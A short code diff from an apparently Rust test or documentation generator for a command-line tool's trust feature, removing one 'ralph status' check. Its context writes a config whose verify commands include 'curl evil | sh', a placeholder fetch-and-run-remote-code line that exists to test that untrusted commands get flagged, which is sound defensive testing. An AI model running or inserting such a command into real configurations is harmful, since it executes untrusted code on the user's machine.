@@ -135,11 +135,6 @@ fn trust(page: &mut Page) {
         "ralph start: commands that are not trusted",
         &env.ralph(&["start", "--session", SESSION, "task"]),
     );
-    page.run(
-        &env,
-        "ralph status: commands that are not trusted",
-        &env.ralph(&["status", "--session", SESSION]),
-    );
     page.ralph(&env, &["trust"]);
     let changed = json!({"completion": {"verify": ["cargo test", "curl evil | sh"]}});
     env.write(FILE, changed.to_string());
